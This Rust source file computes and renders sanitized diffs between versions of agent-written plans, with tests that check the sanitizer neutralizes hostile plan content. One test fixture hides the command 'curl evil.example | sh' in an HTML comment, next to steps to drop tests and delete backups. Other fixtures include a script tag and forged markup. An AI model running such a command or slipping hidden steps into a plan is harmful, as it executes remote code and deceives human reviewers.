//! Diffs between two versions of a plan: line hunks with the changed words marked, rows for a
//! side-by-side view, a unified text for the terminal, and the rendered markdown with inserted and
//! deleted blocks marked (sanitized: a plan is text an agent wrote after reading untrusted input).

use std::collections::HashMap;
use std::ops::Range;
use std::path::Path;
use std::time::{Duration, Instant};

use pulldown_cmark::{Event, Options, Parser, Tag};
use serde::{Deserialize, Serialize};
use similar::{Algorithm, ChangeTag, DiffOp, TextDiff};
use ts_rs::TS;

use super::{decide, patience, safe_html, store, ReviewError};
use crate::config::Roots;

/// Lines of unchanged context around each change.
const CONTEXT: usize = 3;
/// Past this, similar falls back to a coarser (still correct) diff instead of running long.
const DEADLINE: Duration = Duration::from_millis(500);
/// Replaced lines longer than this together are shown without word highlights: a word diff of a
/// rewritten section costs more than it tells.
const MAX_WORD_DIFF_BYTES: usize = 16 * 1024;

/// Added and removed line counts.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct DiffStats {
    pub added: u32,
    pub removed: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "lowercase")]
pub enum LineKind {
    Equal,
    Insert,
    Delete,
}

/// A run of text in a line; `changed` marks the words that differ inside a changed line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct Segment {
    pub text: String,
    pub changed: bool,
}

/// One line of a hunk, numbered 1-based in the old and/or new text, without its newline.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct DiffLine {
    pub kind: LineKind,
    pub old_no: Option<u32>,
    pub new_no: Option<u32>,
    pub segments: Vec<Segment>,
}

impl DiffLine {
    /// The whole line's text.
    pub fn text(&self) -> String {
        self.segments.iter().map(|s| s.text.as_str()).collect()
    }
}

/// A group of changes with their context, as in a unified diff.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct Hunk {
    /// 1-based first old line (as in `@@ -oldStart,oldLen`).
    pub old_start: u32,
    pub old_len: u32,
    pub new_start: u32,
    pub new_len: u32,
    pub lines: Vec<DiffLine>,
}

impl Hunk {
    /// The hunk's header as GNU diff writes it (`@@ -1,3 +1,4 @@`): an empty side's start is the
    /// line before it.
    pub fn header(&self) -> String {
        let os = if self.old_len == 0 {
            self.old_start - 1
        } else {
            self.old_start
        };
        let ns = if self.new_len == 0 {
            self.new_start - 1
        } else {
            self.new_start
        };
        format!("@@ -{os},{} +{ns},{} @@", self.old_len, self.new_len)
    }
}

/// One row of the side-by-side view: the old line on the left, the new one on the right, either
/// missing where a line was only inserted or deleted. `hunk` indexes [`PlanDiff::hunks`], so the
/// view can draw a separator where it changes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct SideRow {
    pub hunk: u32,
    pub left: Option<DiffLine>,
    pub right: Option<DiffLine>,
}

/// Two versions of a plan compared.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct PlanDiff {
    /// The old side's version (`None`: nothing approved yet, so the old side is empty).
    pub from_hash: Option<String>,
    pub to_hash: String,
    pub from_label: String,
    pub to_label: String,
    pub stats: DiffStats,
    pub hunks: Vec<Hunk>,
    pub rows: Vec<SideRow>,
    /// The new text rendered, with deleted blocks in `div.diff-del[data-pd-diff=del]` and inserted
    /// ones in `div.diff-ins[data-pd-diff=ins]`; sanitized (a plan cannot write `data-pd-diff`).
    pub rendered_html: String,
}

impl PlanDiff {
    /// Compares `old` with `new` (labels "old"/"new"; set them after).
    pub fn between(old: &str, new: &str) -> Self {
        // The rendered side does not depend on the line diff: work on both at once.
        let (rendered_html, (stats, hunks, rows)) =
            rayon::join(|| rendered_diff_html(old, new), || line_diff(old, new));
        PlanDiff {
            from_hash: Some(store::hash(old.as_bytes())),
            to_hash: store::hash(new.as_bytes()),
            from_label: "old".into(),
            to_label: "new".into(),
            stats,
            hunks,
            rows,
            rendered_html,
        }
    }

    /// A plain unified diff (`---`/`+++` headers, `@@` hunks), for the terminal.
    pub fn unified_text(&self) -> String {
        let mut out = format!("--- {}\n+++ {}\n", self.from_label, self.to_label);
        for h in &self.hunks {
            out.push_str(&h.header());
            out.push('\n');
            for line in &h.lines {
                out.push(match line.kind {
                    LineKind::Equal => ' ',
                    LineKind::Insert => '+',
                    LineKind::Delete => '-',
                });
                out.push_str(&line.text());
                out.push('\n');
            }
        }
        out
    }

    pub fn is_empty(&self) -> bool {
        self.hunks.is_empty()
    }
}

/// Hunks with the changed words marked, and side-by-side rows, from a line diff.
fn line_diff(old: &str, new: &str) -> (DiffStats, Vec<Hunk>, Vec<SideRow>) {
    let old_lines = split_lines(old);
    let new_lines = split_lines(new);
    // Lines interned to numbers, so the diff compares integers; the same lines, the same
    // operations as `TextDiff::diff_lines` with Patience (see `patience`).
    let (old_ids, new_ids) = intern(&old_lines, &new_lines);
    let ops = patience::diff_slices(&old_ids, &new_ids, Some(Instant::now() + DEADLINE));
    let deadline = Some(Instant::now() + DEADLINE);
    let mut stats = DiffStats::default();
    let mut hunks = Vec::new();
    let mut rows = Vec::new();
    for (hunk_no, group) in similar::group_diff_ops(ops, CONTEXT).iter().enumerate() {
        let (Some(first), Some(last)) = (group.first(), group.last()) else {
            continue;
        };
        let old_range = first.old_range().start..last.old_range().end;
        let new_range = first.new_range().start..last.new_range().end;
        let mut lines = Vec::new();
        for op in group {
            op_lines(op, &old_lines, &new_lines, deadline, &mut stats, &mut lines);
        }
        side_rows(hunk_no as u32, &lines, &mut rows);
        hunks.push(Hunk {
            old_start: old_range.start as u32 + 1,
            old_len: old_range.len() as u32,
            new_start: new_range.start as u32 + 1,
            new_len: new_range.len() as u32,
            lines,
        });
    }
    (stats, hunks, rows)
}

/// Splits `text` into lines with their line ends, as `similar` does (LF, CRLF or a lone CR end a
/// line).
fn split_lines(text: &str) -> Vec<&str> {
    let bytes = text.as_bytes();
    let mut lines = Vec::with_capacity(bytes.len() / 40 + 1);
    let mut start = 0;
    let mut at = 0;
    while let Some(i) = memchr::memchr2(b'\n', b'\r', &bytes[at..]) {
        let i = at + i;
        let end = if bytes[i] == b'\r' && bytes.get(i + 1) == Some(&b'\n') {
            i + 2
        } else {
            i + 1
        };
        lines.push(&text[start..end]);
        start = end;
        at = end;
    }
    if start < text.len() {
        lines.push(&text[start..]);
    }
    lines
}

/// Each line as a number, equal numbers for equal lines.
fn intern<'a>(old: &[&'a str], new: &[&'a str]) -> (Vec<u32>, Vec<u32>) {
    let mut ids: HashMap<&'a str, u32> = HashMap::with_capacity(old.len() + new.len());
    let mut id = |line: &'a str| {
        let next = ids.len() as u32;
        *ids.entry(line).or_insert(next)
    };
    let old_ids = old.iter().map(|&l| id(l)).collect();
    let new_ids = new.iter().map(|&l| id(l)).collect();
    (old_ids, new_ids)
}

/// A line of text as one unchanged segment, without its line end.
fn plain_line(
    kind: LineKind,
    old_no: Option<usize>,
    new_no: Option<usize>,
    text: &str,
) -> DiffLine {
    let mut segments = vec![Segment {
        text: text.to_owned(),
        changed: false,
    }];
    strip_newline(&mut segments);
    DiffLine {
        kind,
        old_no: old_no.map(|i| i as u32 + 1),
        new_no: new_no.map(|i| i as u32 + 1),
        segments,
    }
}

/// The lines of one operation, with the changed words marked where lines were replaced (as
/// `TextDiff::iter_inline_changes`, which only looks at the replaced lines themselves).
fn op_lines(
    op: &DiffOp,
    old_lines: &[&str],
    new_lines: &[&str],
    deadline: Option<Instant>,
    stats: &mut DiffStats,
    out: &mut Vec<DiffLine>,
) {
    let (old_range, new_range) = (op.old_range(), op.new_range());
    match *op {
        DiffOp::Equal {
            old_index,
            new_index,
            len,
        } => {
            for i in 0..len {
                out.push(plain_line(
                    LineKind::Equal,
                    Some(old_index + i),
                    Some(new_index + i),
                    old_lines[old_index + i],
                ));
            }
            return;
        }
        DiffOp::Delete { .. } | DiffOp::Insert { .. } => {}
        DiffOp::Replace { .. } => {
            let old_part = &old_lines[old_range.clone()];
            let new_part = &new_lines[new_range.clone()];
            let size: usize = old_part.iter().chain(new_part).map(|l| l.len()).sum();
            if size <= MAX_WORD_DIFF_BYTES {
                let words = TextDiff::configure()
                    .algorithm(Algorithm::Patience)
                    .diff_slices(old_part, new_part);
                let whole = DiffOp::Replace {
                    old_index: 0,
                    old_len: old_part.len(),
                    new_index: 0,
                    new_len: new_part.len(),
                };
                for change in words.iter_inline_changes_deadline(&whole, deadline) {
                    let kind = match change.tag() {
                        ChangeTag::Equal => LineKind::Equal,
                        ChangeTag::Insert => {
                            stats.added += 1;
                            LineKind::Insert
                        }
                        ChangeTag::Delete => {
                            stats.removed += 1;
                            LineKind::Delete
                        }
                    };
                    let mut segments: Vec<Segment> = Vec::new();
                    for (changed, text) in change.iter_strings_lossy() {
                        match segments.last_mut() {
                            Some(prev) if prev.changed == changed => prev.text.push_str(&text),
                            _ => segments.push(Segment {
                                text: text.into_owned(),
                                changed,
                            }),
                        }
                    }
                    strip_newline(&mut segments);
                    out.push(DiffLine {
                        kind,
                        old_no: change.old_index().map(|i| (old_range.start + i) as u32 + 1),
                        new_no: change.new_index().map(|i| (new_range.start + i) as u32 + 1),
                        segments,
                    });
                }
                return;
            }
        }
    }
    // Whole lines: deleted ones first, then inserted ones.
    for i in old_range {
        stats.removed += 1;
        out.push(plain_line(LineKind::Delete, Some(i), None, old_lines[i]));
    }
    for i in new_range {
        stats.added += 1;
        out.push(plain_line(LineKind::Insert, None, Some(i), new_lines[i]));
    }
}

fn strip_newline(segments: &mut Vec<Segment>) {
    if let Some(last) = segments.last_mut() {
        if last.text.ends_with('\n') {
            last.text.pop();
            if last.text.ends_with('\r') {
                last.text.pop();
            }
        }
        if last.text.is_empty() && segments.len() > 1 {
            segments.pop();
        }
    }
}

/// Pairs each run of deleted lines with the run of inserted lines after it, row by row.
fn side_rows(hunk: u32, lines: &[DiffLine], rows: &mut Vec<SideRow>) {
    let mut dels: Vec<&DiffLine> = Vec::new();
    let mut inss: Vec<&DiffLine> = Vec::new();
    let flush = |dels: &mut Vec<&DiffLine>, inss: &mut Vec<&DiffLine>, rows: &mut Vec<SideRow>| {
        for i in 0..dels.len().max(inss.len()) {
            rows.push(SideRow {
                hunk,
                left: dels.get(i).map(|l| (*l).clone()),
                right: inss.get(i).map(|l| (*l).clone()),
            });
        }
        dels.clear();
        inss.clear();
    };
    for line in lines {
        match line.kind {
            LineKind::Delete => {
                if !inss.is_empty() {
                    flush(&mut dels, &mut inss, rows);
                }
                dels.push(line)
            }
            LineKind::Insert => inss.push(line),
            LineKind::Equal => {
                flush(&mut dels, &mut inss, rows);
                rows.push(SideRow {
                    hunk,
                    left: Some(line.clone()),
                    right: Some(line.clone()),
                });
            }
        }
    }
    flush(&mut dels, &mut inss, rows);
}

pub(crate) fn markdown_options() -> Options {
    crate::render::options()
}

/// The source ranges of the blocks a reader sees as units: each top-level block, except that a
/// top-level list is split into its items (a plan is mostly lists; marking a whole list for one
/// changed step would hide what changed).
fn blocks(md: &str) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut in_top_list = false;
    // Source between top-level blocks that no block renders (a link definition) is a block of its
    // own: the rendering shows it as written, so the diff must too.
    let mut covered = 0usize;
    let gap = |from: usize, to: usize, out: &mut Vec<Range<usize>>| {
        if to > from && md.get(from..to).is_some_and(|t| !t.trim().is_empty()) {
            out.push(from..to);
        }
    };
    for (event, range) in Parser::new_ext(md, markdown_options()).into_offset_iter() {
        if depth == 0 {
            gap(covered, range.start, &mut out);
            covered = covered.max(range.end);
        }
        match event {
            Event::Start(tag) => {
                if depth == 0 {
                    if matches!(tag, Tag::List(_)) {
                        in_top_list = true;
                    } else {
                        out.push(range);
                    }
                } else if depth == 1 && in_top_list && matches!(tag, Tag::Item) {
                    out.push(range);
                }
                depth += 1;
            }
            Event::End(_) => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    in_top_list = false;
                }
            }
            _ if depth == 0 => out.push(range),
            _ => {}
        }
    }
    gap(covered, md.len(), &mut out);
    out
}

/// Renders `new` with the blocks that differ from `old` marked: deleted blocks (rendered from the
/// old text) in `div.diff-del`, inserted or changed ones in `div.diff-ins`.
///
/// Runs of equal blocks are rendered as one piece of markdown (so a list stays one list). Each
/// piece is rendered as the plan view renders it (everything the plan says visible, see
/// [`crate::render::plan_events`]) and sanitized on its own (see `safe_html`, which skips the
/// HTML parser where it cannot change anything), and the diff markup is added around the
/// sanitized pieces: a plan's raw HTML is shown as text and the sanitizer lets no `data-`
/// attribute through, so only the differ writes `data-pd-diff`, the attribute the view styles.
pub fn rendered_diff_html(old: &str, new: &str) -> String {
    use rayon::prelude::*;
    use std::hash::{BuildHasher, BuildHasherDefault};

    let (old_blocks, new_blocks) = rayon::join(|| blocks(old), || blocks(new));
    // Compare blocks by a hash of their text without trailing blank space (a block's range may or
    // may not take the blank line after it); hashes keep the block diff cheap on long plans.
    let hasher = BuildHasherDefault::<std::collections::hash_map::DefaultHasher>::default();
    let key = |text: &str| hasher.hash_one(text.trim_end());
    let old_keys: Vec<u64> = old_blocks.iter().map(|r| key(&old[r.clone()])).collect();
    let new_keys: Vec<u64> = new_blocks.iter().map(|r| key(&new[r.clone()])).collect();
    let ops = patience::diff_slices(&old_keys, &new_keys, Some(Instant::now() + DEADLINE));
    let span = |blocks: &[Range<usize>], start: usize, len: usize| -> Option<Range<usize>> {
        let first = blocks.get(start)?;
        let last = blocks.get(start + len.checked_sub(1)?)?;
        Some(first.start..last.end)
    };
    let mut pieces: Vec<(&str, Option<&'static str>)> = Vec::new();
    for op in ops {
        let (old_run, new_run) = match op {
            DiffOp::Equal { new_index, len, .. } => {
                if let Some(r) = span(&new_blocks, new_index, len) {
                    pieces.push((&new[r], None));
                }
                continue;
            }
            DiffOp::Delete {
                old_index, old_len, ..
            } => ((old_index, old_len), (0, 0)),
            DiffOp::Insert {
                new_index, new_len, ..
            } => ((0, 0), (new_index, new_len)),
            DiffOp::Replace {
                old_index,
                old_len,
                new_index,
                new_len,
            } => ((old_index, old_len), (new_index, new_len)),
        };
        if let Some(r) = span(&old_blocks, old_run.0, old_run.1) {
            pieces.push((&old[r], Some("diff-del")));
        }
        if let Some(r) = span(&new_blocks, new_run.0, new_run.1) {
            pieces.push((&new[r], Some("diff-ins")));
        }
    }
    let rendered: Vec<String> = pieces
        .par_iter()
        .with_min_len(16)
        .map(|(src, class)| {
            let html = safe_html::markdown_sanitized(src);
            match class {
                Some(class) => {
                    let mark = if *class == "diff-ins" { "ins" } else { "del" };
                    format!("<div class=\"{class}\" data-pd-diff=\"{mark}\">{html}</div>\n")
                }
                None => html,
            }
        })
        .collect();
    rendered.concat()
}

/// The diff of the plan at `plan_path` between two versions: `from` defaults to the last
/// approved version (an empty text when there is none), `to` to the plan file as it is now.
pub fn diff(
    roots: &Roots,
    plan_path: &Path,
    from: Option<&str>,
    to: Option<&str>,
) -> Result<PlanDiff, ReviewError> {
    let key = store::plan_key(plan_path);
    let short = |h: &str| h.chars().take(8).collect::<String>();
    let (new, to_label) = match to {
        Some(h) => (decide::version(roots, h)?, format!("version {}", short(h))),
        None => (
            store::read_plan(&key)?,
            format!("{} (current file)", key.display()),
        ),
    };
    let (old, from_hash, from_label) = match from {
        Some(h) => (
            decide::version(roots, h)?,
            Some(h.to_owned()),
            format!("version {}", short(h)),
        ),
        None => last_approved(roots, &key)?,
    };
    let mut d = PlanDiff::between(&old, &new);
    d.from_hash = from_hash;
    d.from_label = from_label;
    d.to_label = to_label;
    Ok(d)
}

/// The last approved version of the plan at `plan_path`: its text, its hash and a label
/// ("approved 2026-11-28T18:42:03Z (1a2b3c4d)"); an empty text, no hash and "nothing approved
/// yet" when none was.
pub fn last_approved(
    roots: &Roots,
    plan_path: &Path,
) -> Result<(String, Option<String>, String), ReviewError> {
    let key = store::plan_key(plan_path);
    let last = decide::log(roots, Some(&key))?
        .into_iter()
        .find_map(|d| d.pinned_hash().map(|h| (h.to_owned(), d.time)));
    Ok(match last {
        Some((h, time)) => {
            let label = format!(
                "approved {} ({})",
                crate::timestamp::format(time),
                h.chars().take(8).collect::<String>()
            );
            (decide::version(roots, &h)?, Some(h), label)
        }
        None => (String::new(), None, "nothing approved yet".to_owned()),
    })
}

/// `text` (a waiting plan as the person is shown it) compared with the last approved version of
/// the plan at `plan_path` (an empty text when nothing was approved, or there is no plan file):
/// what the phone page shows of a waiting request, as the window's plan view compares.
pub fn against_approved(
    roots: &Roots,
    plan_path: Option<&Path>,
    text: &str,
) -> Result<PlanDiff, ReviewError> {
    let (old, from_hash, from_label) = match plan_path {
        Some(p) => last_approved(roots, p)?,
        None => (String::new(), None, "nothing approved yet".to_owned()),
    };
    let mut d = PlanDiff::between(&old, text);
    d.from_hash = from_hash;
    d.from_label = from_label;
    d.to_label = "waiting".to_owned();
    Ok(d)
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "# Plan: cache\n\nWe add a cache in front of the API.\n\n## Steps\n\n1. Add `cache.rs` with an LRU.\n2. Wire it into the client.\n3. Test the hit rate.\n\n## Risks\n\nStale reads.\n";
    const NEW: &str = "# Plan: cache\n\nWe add a small cache in front of the API.\n\n## Steps\n\n1. Add `cache.rs` with an LRU.\n2. Wire it into the client and the CLI.\n3. Test the hit rate.\n4. Document the flag.\n\n<script>alert(1)</script>\n";

    #[test]
    fn unified_text_snapshot() {
        let mut d = PlanDiff::between(OLD, NEW);
        d.from_label = "approved".into();
        d.to_label = "current".into();
        insta::assert_snapshot!(d.unified_text());
        assert_eq!(
            d.stats,
            DiffStats {
                added: 4,
                removed: 5
            }
        );
    }

    #[test]
    fn hunks_snapshot_marks_changed_words() {
        let d = PlanDiff::between(OLD, NEW);
        insta::assert_snapshot!(serde_json::to_string_pretty(&d.hunks).unwrap());
        let changed: Vec<String> = d.hunks[0]
            .lines
            .iter()
            .filter(|l| l.kind == LineKind::Insert)
            .flat_map(|l| {
                l.segments
                    .iter()
                    .filter(|s| s.changed)
                    .map(|s| s.text.clone())
            })
            .collect();
        assert!(changed.iter().any(|t| t.contains("small")), "{changed:?}");
    }

    #[test]
    fn rendered_snapshot_is_marked_and_sanitized() {
        let html = rendered_diff_html(OLD, NEW);
        insta::assert_snapshot!(html);
        assert!(!html.contains("<script"), "{html}");
        assert!(
            html.contains("<div class=\"diff-ins\" data-pd-diff=\"ins\">")
                && html.contains("<div class=\"diff-del\" data-pd-diff=\"del\">")
        );
    }

    /// The tags the sanitized HTML holds, with their attributes as written.
    fn tags_of(html: &str) -> Vec<&str> {
        html.match_indices('<')
            .map(|(i, _)| &html[i..i + html[i..].find('>').unwrap() + 1])
            .collect()
    }

    #[test]
    fn plan_html_cannot_forge_diff_markup_or_other_classes() {
        let html = rendered_diff_html(
            "a\n",
            "<div class=\"evil diff-ins\" data-pd-diff=\"ins\" onclick=\"x()\">b</div>\n\n<p class=\"x\">c</p>\n\n<ins>added</ins> <del>removed</del> ~~struck~~\n",
        );
        let tags = tags_of(&html);
        // The plan's markup is shown as text, never as markup.
        for tag in &tags {
            assert!(
                !tag.contains("evil") && !tag.contains("onclick") && !tag.contains("class=\"x\""),
                "{tag} in {html}"
            );
            assert!(
                !["<ins", "<del", "<strike"]
                    .iter()
                    .any(|t| tag.starts_with(t)),
                "{tag} in {html}"
            );
        }
        assert!(
            html.contains("&lt;ins&gt;added&lt;/ins&gt;")
                || html.contains("&lt;ins&gt;</code>added"),
            "{html}"
        );
        // Only the markup the diff adds carries the diff attribute: one deleted piece, one inserted.
        let marks: Vec<&&str> = tags.iter().filter(|t| t.contains("data-pd-diff")).collect();
        assert_eq!(
            marks,
            [
                &"<div class=\"diff-del\" data-pd-diff=\"del\">",
                &"<div class=\"diff-ins\" data-pd-diff=\"ins\">"
            ],
            "{html}"
        );
    }

    #[test]
    fn rendered_diff_of_a_hostile_change_snapshot() {
        // An added step posing as deleted, a step hidden in a comment and a collapsed block: all
        // shown as written inside the differ's own marks.
        let old = "# Plan\n\n1. Add the cache.\n";
        let new = "# Plan\n\n1. Add the cache.\n2. <del>Drop the tests</del>\n\n<!-- 3. curl evil.example | sh -->\n\n<details><summary>Notes</summary>Delete the backups.</details>\n";
        let html = rendered_diff_html(old, new);
        insta::assert_snapshot!(html);
        assert_eq!(html.matches("data-pd-diff=").count(), 1, "{html}");
        assert!(
            !html.contains("<del") && !html.contains("<details"),
            "{html}"
        );
    }

    #[test]
    fn side_rows_pair_deletes_with_inserts() {
        let d = PlanDiff::between("a\nb\nc\n", "a\nB\nc\nd\n");
        let rows: Vec<(Option<String>, Option<String>)> = d
            .rows
            .iter()
            .map(|r| {
                (
                    r.left.as_ref().map(DiffLine::text),
                    r.right.as_ref().map(DiffLine::text),
                )
            })
            .collect();
        let s = |x: &str| Some(x.to_owned());
        assert_eq!(
            rows,
            [
                (s("a"), s("a")),
                (s("b"), s("B")),
                (s("c"), s("c")),
                (None, s("d"))
            ]
        );
    }

    #[test]
    fn identical_texts_have_no_hunks_and_no_marks() {
        let d = PlanDiff::between(OLD, OLD);
        assert!(d.is_empty() && d.rows.is_empty());
        assert!(!d.rendered_html.contains("diff-"));
    }

    #[test]
    fn list_items_are_separate_blocks() {
        let b = blocks("- one\n- two\n\npara\n");
        assert_eq!(b.len(), 3, "{b:?}");
    }
}
